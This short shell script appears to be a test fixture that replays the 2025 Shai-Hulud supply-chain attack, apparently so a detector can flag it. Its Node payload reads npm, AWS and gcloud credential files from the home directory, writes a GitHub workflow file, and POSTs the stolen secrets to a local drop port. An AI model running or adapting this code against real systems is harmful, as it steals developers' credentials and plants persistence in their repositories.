# incident: Shai-Hulud (2025): secrets are gathered, and a workflow that sends them is put into the repository
# finding: credential-read, workflow-written
# needs: node
cat > bundle.js <<'JS'
const fs = require('fs'), os = require('os');
const found = ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json']
  .map(f => { try { return fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch { return ''; } });
fs.mkdirSync('.github/workflows', {recursive: true});
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\n');
require('http').request({host: '127.0.0.1', port: process.env.DROP_PORT, method: 'POST'}).end(JSON.stringify(found));
JS
node bundle.js
